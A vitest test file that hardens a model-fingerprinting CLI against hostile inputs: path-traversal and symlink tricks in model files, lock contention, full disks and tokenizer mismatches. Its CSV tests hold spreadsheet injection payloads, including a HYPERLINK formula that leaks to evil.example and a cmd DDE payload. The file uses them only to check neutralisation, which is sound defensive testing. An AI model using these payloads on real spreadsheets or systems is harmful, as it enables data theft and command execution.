/**
 * Issue 16, items 3, 4, 7 and 8: hostile model folders, concurrent runs on one output,
 * formula-shaped ids in CSVs and the smaller broken inputs. Each case feeds the input
 * through the CLI and checks the exit code, the error code and that nothing was written
 * or lost.
 */
import { execFileSync, spawnSync } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { decodeModel, encodeModel, EXTERNAL } from '../src/onnx/codec.js';
import { guardCell, parseCsv, unguardCell } from '../src/util/csv.js';
import { commandLine } from '../src/util/shell.js';
import { BIN, ROOT, parseJson, runCli, spawnCli, tmpDir, type CliResult } from './helpers/cli.js';
import { copyModel, tinyZoo, type ZooModel } from './helpers/zoo.js';

const FAST = ['--num-prompts', '3', '--k', '200', '--prefix-len', '4', '--total-len', '20', '--progress', 'none'];

let models: ZooModel[];
const byId = (id: string) => models.find((m) => m.model_id === id)!;

beforeAll(async () => {
  ({ models } = await tinyZoo());
}, 120_000);

interface JsonError {
  ok: false;
  error: { code: string; message: string; subject?: string; hint?: string; model_code?: string };
}
const errorOf = (r: CliResult) => parseJson<JsonError>(r).error;

/** Every file below dir (relative), for "nothing else was written" checks. */
function tree(dir: string): string[] {
  return fs.readdirSync(dir, { recursive: true, encoding: 'utf8' }).sort();
}

/**
 * A copy of `src` whose largest 2-D weight is stored as external data at `location`
 * (the bytes themselves go to onnx/weights.bin, so `location: weights.bin` is the valid case).
 */
function withExternalWeight(src: string, dest: string, location: string): string {
  copyModel(src, dest);
  const file = path.join(dest, 'onnx', 'model.onnx');
  const m = decodeModel(fs.readFileSync(file));
  const size = (t: (typeof inits)[number]) => t.rawData?.length ?? 0;
  const inits = m.graph?.initializer ?? [];
  const big = inits.filter((t) => t.dims?.length === 2 && size(t) > 0).sort((a, b) => size(b) - size(a))[0];
  const raw = Buffer.from(big.rawData ?? new Uint8Array(0));
  fs.writeFileSync(path.join(dest, 'onnx', 'weights.bin'), raw);
  big.rawData = new Uint8Array(0);
  big.dataLocation = EXTERNAL;
  big.externalData = [
    { key: 'location', value: location },
    { key: 'offset', value: '0' },
    { key: 'length', value: String(raw.length) },
  ];
  fs.writeFileSync(file, encodeModel(m));
  return dest;
}

describe('item 3: paths written inside model files are confined to the model folder', () => {
  let work: string;
  let reg: string;
  const outside = () => path.join(work, 'secret.bin');

  beforeAll(() => {
    work = tmpDir('modelprint-escape-');
    reg = path.join(work, 'reg.db');
    // A file outside every model folder, big enough to hold the weight (so only confinement stops it).
    fs.writeFileSync(outside(), Buffer.alloc(4 << 20, 7));
    const base = byId('alpha-base').path;
    const m = (name: string, location: string, prepare?: (dir: string) => void) => {
      const dir = withExternalWeight(base, path.join(work, 'models', name), location);
      prepare?.(path.join(dir, 'onnx'));
      const r = runCli(['models', 'add', dir, '--name', name, '--registry', reg, '--json', ...(name === 'dangling' ? ['--no-hash'] : [])]);
      expect(r.code, r.stderr).toBe(0);
    };
    m('ok-external', 'weights.bin');
    m('dotdot', `${'../'.repeat(12)}${outside().slice(1)}`);
    m('absolute', outside());
    m('symlink-out', 'link.bin', (d) => fs.symlinkSync(outside(), path.join(d, 'link.bin')));
    m('fifo', 'pipe.bin', (d) => execFileSync('mkfifo', [path.join(d, 'pipe.bin')]));
    m('dangling', 'gone.bin', (d) => fs.symlinkSync(path.join(d, 'nothing-here'), path.join(d, 'gone.bin')));
  }, 120_000);

  function weightRun(ids: string[]) {
    const cfg = path.join(work, `cfg-${ids.join('-')}.json`);
    fs.writeFileSync(cfg, JSON.stringify({ models: ids, methods: ['weight'], metrics: ['cosine'] }));
    const out = path.join(work, `out-${ids.join('-')}`);
    const r = runCli(['experiment', 'run', '--config', cfg, '--registry', reg, '--output-dir', out, '--json', '--progress', 'none'], { env: {} });
    return { r, out };
  }

  it('the weight method reads external data inside the folder (control)', () => {
    const { r, out } = weightRun(['ok-external', 'dotdot']);
    expect(r.code, r.stderr).toBe(3);
    const j = parseJson<{ failed: Array<{ model: string; code: string; message: string }>; computed: Record<string, number> }>(r);
    expect(j.computed).toEqual({ weight: 1 });
    expect(j.failed.map((f) => f.model)).toEqual(['dotdot']);
    const fps = JSON.parse(fs.readFileSync(path.join(out, 'fingerprints.json'), 'utf8')) as { fingerprints: Record<string, Record<string, number[]>> };
    expect(Object.keys(fps.fingerprints.weight)).toEqual(['ok-external']);
  });

  it.each([
    ['dotdot', 'leads out of the model folder'],
    ['absolute', 'is an absolute path'],
    ['symlink-out', 'outside the model folder'],
    ['fifo', 'is not a regular file'],
  ])('%s: unsafe_path naming the file and the field; nothing read, nothing fingerprinted', (id, words) => {
    const t = Date.now();
    const { r, out } = weightRun([id, 'ok-external']);
    expect(Date.now() - t).toBeLessThan(60_000); // a FIFO must not hang the run
    expect(r.code, r.stderr).toBe(3);
    const j = parseJson<{ failed: Array<{ model: string; code: string; message: string }> }>(r);
    expect(j.failed).toHaveLength(1);
    expect(j.failed[0]).toMatchObject({ model: id, code: 'unsafe_path' });
    expect(j.failed[0].message).toContain('model.onnx: external_data location of initializer');
    expect(j.failed[0].message).toContain(words);
    const fps = JSON.parse(fs.readFileSync(path.join(out, 'fingerprints.json'), 'utf8')) as { fingerprints: Record<string, Record<string, number[]>> };
    expect(Object.keys(fps.fingerprints.weight)).toEqual(['ok-external']);
  });

  it('a dangling external-data link is not_found, not a crash', () => {
    const { r } = weightRun(['dangling']);
    expect(r.code, r.stderr).toBe(3);
    const j = parseJson<{ failed: Array<{ code: string; message: string }> }>(r);
    expect(j.failed[0].code).toBe('not_found');
    expect(j.failed[0].message).toContain('dangling symbolic link');
  });
});

describe('item 3: safetensors shards', () => {
  it('a shard named by the index that links out of the checkpoint folder is unsafe_path', () => {
    const work = tmpDir('modelprint-shard-');
    const good = path.join(work, 'good');
    fs.cpSync(path.join(ROOT, 'test', 'fixtures', 'hf', 'qwen2-sharded'), good, { recursive: true });
    const evil = path.join(work, 'evil');
    fs.cpSync(good, evil, { recursive: true });
    const shard = path.join(evil, 'model-00002-of-00002.safetensors');
    fs.renameSync(shard, path.join(work, 'outside.safetensors'));
    fs.symlinkSync(path.join(work, 'outside.safetensors'), shard);
    const inspect = (d: string) => runCli(['models', 'inspect', d, '--json', '--device', 'cpu']);
    const ok = inspect(good);
    expect(ok.code, ok.stderr).toBe(0);
    const bad = inspect(evil);
    expect(bad.code).toBe(1);
    const j = parseJson<{ ok: boolean; error: { code: string; message: string } }>(bad);
    expect(j).toMatchObject({ ok: false, error: { code: 'unsafe_path' } });
    expect(j.error.message).toContain('weight_map shard');
    expect(j.error.message).toContain('outside the model folder');
  });
});

describe('item 8: broken model folders and output paths end in coded errors', () => {
  it('a dangling symlink or a link loop in a model folder fails that model with a code, not E_INTERNAL', () => {
    const work = tmpDir('modelprint-links-');
    const dangling = copyModel(byId('alpha-ft-light').path, path.join(work, 'dangling'));
    fs.symlinkSync(path.join(work, 'no-such-blob'), path.join(dangling, 'model.safetensors.part'));
    const loop = copyModel(byId('alpha-int8').path, path.join(work, 'loop'));
    fs.symlinkSync('loop-b', path.join(loop, 'loop-a'));
    fs.symlinkSync('loop-a', path.join(loop, 'loop-b'));
    const out = path.join(work, 'r.csv');
    const r = runCli(['lineage', '--base', byId('alpha-base').path, '--derived', dangling, loop, byId('alpha-lora').path, '-o', out, '--registry', path.join(work, 'reg.db'), '--json', ...FAST]);
    expect(r.code, r.stderr).toBe(3);
    const rows = parseCsv(fs.readFileSync(out, 'utf8')).rows;
    expect(rows.map((x) => [path.basename(x.derived_model_name), x.error_code])).toEqual([
      ['dangling', 'not_found'],
      ['loop', 'unsafe_path'],
      ['alpha-lora', ''],
    ]);
    expect(rows[0].error_message).toContain('dangling symbolic link');
    expect(rows[1].error_message).toContain('symbolic link loop');
  });

  it('-o naming a folder and --output-dir naming a file are usage errors; nothing is written', () => {
    const work = tmpDir('modelprint-outs-');
    fs.mkdirSync(path.join(work, 'a-dir'));
    fs.writeFileSync(path.join(work, 'a-file'), 'keep me\n');
    const before = tree(work);
    const l = runCli(['lineage', '--base', byId('alpha-base').path, '--derived', byId('alpha-int8').path, '-o', path.join(work, 'a-dir'), '--registry', path.join(work, 'a-dir', 'reg.db'), '--registry-write', 'off', '--json', ...FAST]);
    expect(l.code, l.stderr).toBe(2);
    expect(errorOf(l)).toMatchObject({ code: 'E_USAGE', subject: path.join(work, 'a-dir') });
    expect(errorOf(l).message).toContain('is a folder');
    const m = runCli(['matrix', '--models', byId('alpha-base').path, byId('alpha-int8').path, '--output-dir', path.join(work, 'a-file'), '--registry-write', 'off', '--registry', path.join(work, 'a-dir', 'reg.db'), '--json', ...FAST]);
    expect(m.code, m.stderr).toBe(2);
    expect(errorOf(m)).toMatchObject({ code: 'E_USAGE', subject: path.join(work, 'a-file') });
    expect(errorOf(m).message).toContain('is a file');
    expect(tree(work).filter((f) => !f.startsWith('a-dir/reg.db'))).toEqual(before);
    expect(fs.readFileSync(path.join(work, 'a-file'), 'utf8')).toBe('keep me\n');
  });

  const root = process.getuid?.() === 0;
  it.skipIf(!root)('a full disk is E_IO saying so, and leaves no temp file behind (tiny tmpfs; needs root)', () => {
    const work = tmpDir('modelprint-full-');
    const mnt = path.join(work, 'full');
    fs.mkdirSync(mnt);
    if (spawnSync('mount', ['-t', 'tmpfs', '-o', 'size=64k', 'tmpfs', mnt]).status !== 0) return; // no mount permission in this sandbox
    try {
      // Fill it: every further write fails with ENOSPC.
      const fd = fs.openSync(path.join(mnt, 'filler'), 'w');
      try {
        for (;;) fs.writeSync(fd, Buffer.alloc(4096, 1));
      } catch (e) {
        expect((e as NodeJS.ErrnoException).code).toBe('ENOSPC');
      } finally {
        fs.closeSync(fd);
      }
      const base = ['lineage', '--base', byId('alpha-base').path, '--derived', byId('alpha-int8').path, '--registry-write', 'off', '--registry', path.join(work, 'reg.db'), '--json', ...FAST];
      // The result CSV on the full disk: its lock cannot even be written.
      const a = runCli([...base, '-o', path.join(mnt, 'r.csv')]);
      expect(a.code, a.stderr).toBe(1);
      expect(errorOf(a).code).toBe('E_IO');
      expect(errorOf(a).message).toContain('the disk is full');
      // A file written atomically (--prompts-out) on the full disk: the temp file is removed.
      const out = path.join(work, 'r.csv');
      const b = runCli([...base, '-o', out, '--prompts-out', path.join(mnt, 'p.json')]);
      expect(b.code, b.stderr).toBe(1);
      expect(errorOf(b)).toMatchObject({ code: 'E_IO', subject: path.join(mnt, 'p.json') });
      expect(errorOf(b).message).toContain('the disk is full');
      expect(fs.readdirSync(mnt)).toEqual(['filler']);
      expect(fs.existsSync(`${out}.lock`)).toBe(false);
    } finally {
      spawnSync('umount', [mnt]);
    }
  });
});

describe('item 4: two runs on one output', () => {
  function lineageArgs(work: string, out: string): string[] {
    const derived = ['alpha-int8', 'alpha-ft-light', 'alpha-lora', 'beta-base'].map((id) => byId(id).path);
    return ['lineage', '--base', byId('alpha-base').path, '--derived', ...derived, '-o', out, '--registry', path.join(work, 'reg.db'), '--json', ...FAST];
  }

  async function waitFor(cond: () => boolean, ms = 60_000): Promise<void> {
    const t = Date.now();
    while (!cond()) {
      if (Date.now() - t > ms) throw new Error('timed out');
      await new Promise((r) => setTimeout(r, 50));
    }
  }

  function finished(p: ReturnType<typeof spawnCli>): Promise<CliResult> {
    let stdout = '';
    let stderr = '';
    p.stdout.on('data', (d: Buffer) => (stdout += d.toString()));
    p.stderr.on('data', (d: Buffer) => (stderr += d.toString()));
    return new Promise((resolve) => p.on('close', (code, signal) => resolve({ code: code ?? (signal === 'SIGKILL' ? 137 : -1), stdout, stderr })));
  }

  it('the second run fails fast with E_LOCKED naming the holder; the CSV has each model once', async () => {
    const work = tmpDir('modelprint-lock-');
    const out = path.join(work, 'out.csv');
    const first = spawnCli(lineageArgs(work, out));
    const firstDone = finished(first);
    await waitFor(() => fs.existsSync(`${out}.lock`));
    first.kill('SIGSTOP'); // the holder is mid-run, however fast this machine is
    const second = runCli(lineageArgs(work, out));
    first.kill('SIGCONT');
    expect(second.code, second.stderr).toBe(1);
    const e = errorOf(second);
    expect(e.code).toBe('E_LOCKED');
    expect(e.subject).toBe(`${out}.lock`);
    expect(e.message).toContain(`process ${first.pid}`);
    const r1 = await firstDone;
    expect(r1.code, r1.stderr).toBe(0);
    expect(fs.existsSync(`${out}.lock`)).toBe(false);
    const ids = parseCsv(fs.readFileSync(out, 'utf8')).rows.map((x) => x.derived_model_name);
    expect(ids).toHaveLength(4);
    expect(new Set(ids).size).toBe(4);
  }, 180_000);

  it('a lock left by a run killed with kill -9 is stale and taken over; no row lost or doubled', async () => {
    const work = tmpDir('modelprint-lock-');
    const out = path.join(work, 'out.csv');
    const first = spawnCli(lineageArgs(work, out));
    const firstDone = finished(first);
    await waitFor(() => fs.existsSync(`${out}.lock`));
    first.kill('SIGKILL');
    await firstDone;
    expect(fs.existsSync(`${out}.lock`)).toBe(true); // nobody removed it
    expect(JSON.parse(fs.readFileSync(`${out}.lock`, 'utf8'))).toMatchObject({ pid: first.pid });
    const again = runCli(lineageArgs(work, out));
    expect(again.code, again.stderr).toBe(0);
    expect(fs.existsSync(`${out}.lock`)).toBe(false);
    const ids = parseCsv(fs.readFileSync(out, 'utf8')).rows.map((x) => x.derived_model_name);
    expect(ids.sort()).toEqual(['alpha-int8', 'alpha-ft-light', 'alpha-lora', 'beta-base'].map((id) => byId(id).path).sort());
  }, 180_000);

  it('a lock held by a live process on this host is respected (matrix --output-dir)', () => {
    const work = tmpDir('modelprint-lock-');
    const dir = path.join(work, 'matrix');
    fs.mkdirSync(dir);
    // A live holder: this test process.
    fs.writeFileSync(path.join(dir, '.modelprint.lock'), JSON.stringify({ pid: process.pid, host: spawnSync('hostname', { encoding: 'utf8' }).stdout.trim(), started: 'now', command: 'test' }));
    const r = runCli(['matrix', '--models', byId('alpha-base').path, byId('alpha-int8').path, '--output-dir', dir, '--registry', path.join(work, 'reg.db'), '--json', ...FAST]);
    expect(r.code, r.stderr).toBe(1);
    expect(errorOf(r)).toMatchObject({ code: 'E_LOCKED', subject: path.join(dir, '.modelprint.lock') });
    expect(fs.readdirSync(dir)).toEqual(['.modelprint.lock']);
  });
});


describe('item 8: the smaller ones', () => {
  it('--total-len beyond max_position_embeddings is a usage error before any work', () => {
    const work = tmpDir('modelprint-ctx-');
    const max = JSON.parse(fs.readFileSync(path.join(byId('alpha-base').path, 'config.json'), 'utf8')).max_position_embeddings as number;
    const out = path.join(work, 'r.csv');
    const args = ['lineage', '--base', byId('alpha-base').path, '--derived', byId('alpha-int8').path, '-o', out, '--registry', path.join(work, 'reg.db'), '--json', '--num-prompts', '2', '--k', '50', '--prefix-len', '4', '--progress', 'jsonl'];
    const r = runCli([...args, '--total-len', String(max + 1)]);
    expect(r.code, r.stderr).toBe(2);
    expect(errorOf(r)).toMatchObject({ code: 'E_USAGE', subject: '--total-len' });
    expect(errorOf(r).message).toContain(`max_position_embeddings ${max}`);
    expect(r.stderr).not.toContain('"event"'); // no model was loaded
    expect(fs.existsSync(out)).toBe(false);
  });

  it('a duplicate model_id in a models CSV is an input error naming both lines', () => {
    const work = tmpDir('modelprint-dup-');
    const csv = path.join(work, 'models.csv');
    fs.writeFileSync(csv, `model_id,path\nx,${byId('alpha-int8').path}\ny,${byId('alpha-lora').path}\nx,${byId('beta-base').path}\n`);
    const out = path.join(work, 'r.csv');
    const r = runCli(['lineage', '--base', byId('alpha-base').path, '--derived', csv, '-o', out, '--registry', path.join(work, 'reg.db'), '--json', ...FAST]);
    expect(r.code, r.stderr).toBe(1);
    expect(errorOf(r).code).toBe('E_INPUT');
    expect(errorOf(r).message).toContain('"x" appears twice (lines 2 and 4)');
    expect(fs.existsSync(out)).toBe(false);
  });

  it('--json: an unknown command and a failing models inspect give {"ok": false}', () => {
    const u = runCli(['modles', 'list', '--json']);
    expect(u.code).toBe(2);
    expect(parseJson<JsonError>(u)).toMatchObject({ ok: false, error: { code: 'E_USAGE' } });
    const text = path.join(tmpDir('modelprint-txt-'), 'notes.txt');
    fs.writeFileSync(text, 'not a model\n');
    const i = runCli(['models', 'inspect', text, '--json']);
    expect(i.code).toBe(1);
    expect(parseJson<{ ok: boolean; runs: boolean; error: { code: string } }>(i)).toMatchObject({ ok: false, runs: false, error: { code: 'unsupported_format' } });
    const ok = runCli(['models', 'inspect', byId('alpha-base').path, '--json', '--device', 'cpu']);
    expect(ok.code, ok.stderr).toBe(0);
    expect(parseJson<{ ok: boolean }>(ok).ok).toBe(true);
  });

  it('models add of a plain text file is unsupported_format; nothing is registered', () => {
    const work = tmpDir('modelprint-add-');
    const text = path.join(work, 'notes.txt');
    fs.writeFileSync(text, 'not a model\n');
    const reg = path.join(work, 'reg.db');
    const r = runCli(['models', 'add', text, '--registry', reg, '--json']);
    expect(r.code, r.stderr).toBe(1);
    expect(errorOf(r)).toMatchObject({ code: 'E_MODEL_FORMAT', model_code: 'unsupported_format' });
    const list = runCli(['models', 'list', '--registry', reg, '--json']);
    expect(list.stdout).not.toContain('notes');
  });

  it('an empty sketch file is an input error, not an empty matrix', () => {
    const work = tmpDir('modelprint-empty-');
    const file = path.join(work, 'empty.jsonl');
    fs.writeFileSync(file, '');
    const out = path.join(work, 'out');
    fs.mkdirSync(out);
    const r = runCli(['similarity', '--sketches', file, '-o', path.join(out, 'm.csv'), '--json']);
    expect(r.code, r.stderr).toBe(1);
    expect(errorOf(r)).toMatchObject({ code: 'E_INPUT', subject: file });
    expect(fs.readdirSync(out)).toEqual([]);
  });

  it("ONNX Runtime's own log lines stay off stderr under --json", () => {
    const work = tmpDir('modelprint-ortlog-');
    const fifoModel = withExternalWeight(byId('alpha-int8').path, path.join(work, 'fifo'), 'pipe.bin');
    execFileSync('mkfifo', [path.join(fifoModel, 'onnx', 'pipe.bin')]);
    const r = runCli(['lineage', '--base', byId('alpha-base').path, '--derived', fifoModel, '-o', path.join(work, 'r.csv'), '--registry', path.join(work, 'reg.db'), '--json', ...FAST]);
    expect(r.code, r.stderr).toBe(3);
    expect(parseJson<{ failures: Array<{ code: string }> }>(r).failures[0].code).toBe('load_failed');
    expect(r.stderr).not.toContain('onnxruntime');
    expect(r.stderr).not.toContain('\u001b['); // no ANSI colour codes
  });

  it('printed and recorded command lines are shell-quoted and carry no password', () => {
    expect(commandLine(['lineage', '-o', "it's a.csv", '--registry', 'postgres://me:s3cret@db/mp'])).toBe("modelprint lineage -o 'it'\\''s a.csv' --registry 'postgres://me:***@db/mp'");
    expect(commandLine(['--registry=postgres:/me:pw@db/mp', 'x?password=pw2'])).not.toMatch(/pw@|pw2/);
  });

  it('the resume command printed after SIGTERM is shell-quoted: pasting it resumes the run', async () => {
    const work = tmpDir("modelprint-resume-");
    const out = path.join(work, "it's here", 'r s.csv');
    const derived = ['alpha-int8', 'alpha-ft-light', 'alpha-lora', 'beta-base'].map((id) => byId(id).path);
    const args = ['lineage', '--base', byId('alpha-base').path, '--derived', ...derived, '-o', out, '--registry', path.join(work, 'reg $HOME.db'), '--json', '--num-prompts', '3', '--k', '200', '--prefix-len', '4', '--total-len', '20', '--progress', 'jsonl'];
    const p = spawnCli(args);
    let stdout = '';
    let stderr = '';
    let sent = false;
    p.stdout.on('data', (d: Buffer) => (stdout += d.toString()));
    p.stderr.on('data', (d: Buffer) => {
      stderr += d.toString();
      if (!sent && stderr.includes('"event":"model_done"')) sent = p.kill('SIGTERM'); // once: a second signal exits at once
    });
    const code = await new Promise<number | null>((resolve) => p.on('close', resolve));
    expect(code, stderr).toBe(143);
    const hint = parseJson<JsonError>({ code: 143, stdout, stderr }).error.hint ?? '';
    expect(hint).toMatch(/^resume with: modelprint lineage /);
    const cmd = hint.slice('resume with: '.length).replace(/^modelprint /, `${JSON.stringify(process.execPath)} ${JSON.stringify(BIN)} `);
    const again = spawnSync('/bin/sh', ['-c', cmd], { encoding: 'utf8', env: { ...process.env, NO_COLOR: '1' } });
    expect(again.status, again.stderr).toBe(0);
    expect(fs.existsSync(path.join(work, 'reg $HOME.db'))).toBe(true);
    const ids = parseCsv(fs.readFileSync(out, 'utf8')).rows.map((x) => x.derived_model_name);
    expect(ids.sort()).toEqual([...derived].sort());
  }, 180_000);
});

describe('item 7: formula-shaped ids are neutralised in every CSV and read back as they were', () => {
  const EVIL = ['=HYPERLINK("http://evil.example/?leak","click")', "+cmd|' /C calc'!A0", '@SUM(A1:A9)', '-2+3'];

  it('guardCell / unguardCell: a quote before formula starts, numbers untouched, a round trip for any string', () => {
    expect(guardCell('=1+1')).toBe("'=1+1");
    expect(guardCell('\tx')).toBe("'\tx");
    expect(guardCell('\rx')).toBe("'\rx");
    expect(guardCell('-1.0')).toBe('-1.0');
    expect(guardCell('-1e-3')).toBe('-1e-3');
    expect(guardCell(-1)).toBe(-1);
    expect(guardCell('alpha-base')).toBe('alpha-base');
    for (const s of [...EVIL, "'=x", "''@y", "'plain", '-', '+1', "'", '', 'a=b']) expect(unguardCell(String(guardCell(s)))).toBe(s);
  });

  it('lineage, resume, sketches, similarity, matrix and analyses', () => {
    const work = tmpDir('modelprint-formula-');
    const paths = ['alpha-int8', 'alpha-lora', 'beta-base', 'alpha-ft-light'].map((id) => byId(id).path);
    const modelsCsv = path.join(work, 'models.csv');
    fs.writeFileSync(modelsCsv, `model_id,path\n${EVIL.map((id, i) => `"${id.replace(/"/g, '""')}",${paths[i]}`).join('\n')}\n`);
    const reg = path.join(work, 'reg.db');
    const out = path.join(work, 'r.csv');
    const sketches = path.join(work, 's.mpsk');
    const args = ['lineage', '--base', byId('alpha-base').path, '--derived', modelsCsv, '-o', out, '--registry', reg, '--json', ...FAST];
    const r = runCli([...args, '--sketches-out', sketches]);
    expect(r.code, r.stderr).toBe(0);
    const text = fs.readFileSync(out, 'utf8');
    // No cell of the file starts with a formula character (after the CSV quoting).
    const cells = text.split('\n').slice(1, -1).map((l) => l.split(',')[1]);
    for (const c of cells) expect(c.replace(/^"/, '')).toMatch(/^'[=+\-@]/);
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?leak"",""click"")"`);
    expect(parseCsv(text).rows.map((x) => x.derived_model_name)).toEqual(EVIL);

    // Resume recognises every row: nothing is computed or appended again.
    const again = runCli(args);
    expect(again.code, again.stderr).toBe(0);
    expect(parseJson<{ skipped: number; ok: number }>(again)).toMatchObject({ skipped: 4, ok: 0 });
    expect(fs.readFileSync(out, 'utf8')).toBe(text);

    // The similarity CSV (Rust writer) of the lineage sketches: base + the four ids.
    const m = path.join(work, 'm.csv');
    const s = runCli(['similarity', '--sketches', sketches, '-o', m, '--json']);
    expect(s.code, s.stderr).toBe(0);
    const head = fs.readFileSync(m, 'utf8').split('\n')[0];
    expect(head).toContain(`,"'=HYPERLINK(""http://evil.example/?leak"",""click"")"`);
    expect(head).toContain(",'@SUM(A1:A9)");
    expect(parseCsv(fs.readFileSync(m, 'utf8')).header.slice(2)).toEqual(EVIL);

    // matrix: overlap_matrix.csv, and an analysis reading it back keys the same ids.
    const mx = path.join(work, 'mx');
    const mr = runCli(['matrix', '--models', modelsCsv, '--output-dir', mx, '--registry', reg, '--no-dashboard', '--json', ...FAST]);
    expect(mr.code, mr.stderr).toBe(0);
    const matrixText = fs.readFileSync(path.join(mx, 'overlap_matrix.csv'), 'utf8');
    for (const line of matrixText.split('\n').slice(1, -1)) expect(line.replace(/^"/, '')).toMatch(/^'[=+\-@]/);
    const near = path.join(work, 'near');
    const n = runCli(['analyze', 'neighbours', '--matrix', path.join(mx, 'overlap_matrix.csv'), '-o', near, '--json']);
    expect(n.code, n.stderr).toBe(0);
    const nearCsv = parseCsv(fs.readFileSync(path.join(near, 'neighbours.csv'), 'utf8'));
    expect(nearCsv.rows.map((x) => x.model_id).sort()).toEqual([...EVIL].sort());
    for (const line of fs.readFileSync(path.join(near, 'neighbours.csv'), 'utf8').split('\n').slice(1, -1)) expect(line.replace(/^"/, '')).toMatch(/^'[=+\-@]/);
  }, 240_000);
});

describe('item 5: tokenizer checks', () => {
  /** A copy of `src` whose tokenizer ids all lie at or above `offset` (as many tokens as before). */
  function shiftedTokenizer(src: string, dest: string, offset: number): string {
    copyModel(src, dest);
    const file = path.join(dest, 'tokenizer.json');
    const t = JSON.parse(fs.readFileSync(file, 'utf8')) as {
      model: { vocab: Record<string, number> };
      added_tokens?: Array<{ id: number }>;
      post_processor?: unknown;
    };
    for (const k of Object.keys(t.model.vocab)) t.model.vocab[k] += offset;
    for (const a of t.added_tokens ?? []) a.id += offset;
    // TemplateProcessing names special tokens' ids too.
    const shiftIds = (x: unknown): void => {
      if (Array.isArray(x)) x.forEach(shiftIds);
      else if (x && typeof x === 'object') {
        for (const [k, v] of Object.entries(x as Record<string, unknown>)) {
          if (k === 'ids' && Array.isArray(v)) (x as Record<string, unknown>)[k] = v.map((i) => (i as number) + offset);
          else shiftIds(v);
        }
      }
    };
    shiftIds(t.post_processor);
    fs.writeFileSync(file, JSON.stringify(t));
    return dest;
  }

  it('a tokenizer whose ids all lie above the logits width is tokenizer_mismatch for inspect, as derived and as base', () => {
    const work = tmpDir('modelprint-tok-');
    const src = byId('alpha-ft-light').path;
    const width = (JSON.parse(fs.readFileSync(path.join(src, 'config.json'), 'utf8')) as { vocab_size: number }).vocab_size;
    const high = shiftedTokenizer(src, path.join(work, 'high'), width);
    const i = runCli(['models', 'inspect', high, '--json', '--device', 'cpu']);
    expect(i.code).toBe(1);
    expect(parseJson<{ ok: boolean; error: { code: string; message: string } }>(i)).toMatchObject({ ok: false, error: { code: 'tokenizer_mismatch' } });
    const out = path.join(work, 'lineage.csv');
    const asDerived = runCli(['lineage', '--base', byId('alpha-base').path, '--derived', high, src, '-o', out, '--registry-write', 'off', '--json', ...FAST]);
    expect(asDerived.code).toBe(3);
    const rows = parseCsv(fs.readFileSync(out, 'utf8')).rows;
    expect(rows.find((r) => r.derived_model_name === high)?.error_code).toBe('tokenizer_mismatch');
    expect(rows.find((r) => r.derived_model_name === src)?.error_code).toBe('');
    const asBase = runCli(['lineage', '--base', high, '--derived', src, '-o', path.join(work, 'base.csv'), '--registry-write', 'off', '--json', ...FAST]);
    expect(asBase.code).not.toBe(0);
    expect(errorOf(asBase).code).toBe('E_TOKENIZER');
    expect(errorOf(asBase).message).toContain(`tokenizer ids reach ${2 * width - 1} but the model's logits have width ${width}`);
  });

  it('a tokenizer.json over the size cap is input_too_large before it is parsed; the cap is overridable', () => {
    const src = byId('alpha-base').path;
    const size = fs.statSync(path.join(src, 'tokenizer.json')).size;
    const small = runCli(['models', 'inspect', src, '--json', '--device', 'cpu'], { env: { MODELPRINT_MAX_TOKENIZER_BYTES: String(size - 1) } });
    expect(small.code).toBe(1);
    const j = parseJson<{ ok: boolean; error: { code: string; message: string } }>(small);
    expect(j).toMatchObject({ ok: false, error: { code: 'input_too_large' } });
    expect(j.error.message).toContain(`${size} bytes`);
    const enough = runCli(['models', 'inspect', src, '--json', '--device', 'cpu'], { env: { MODELPRINT_MAX_TOKENIZER_BYTES: String(size) } });
    expect(enough.code, enough.stderr).toBe(0);
  });
});
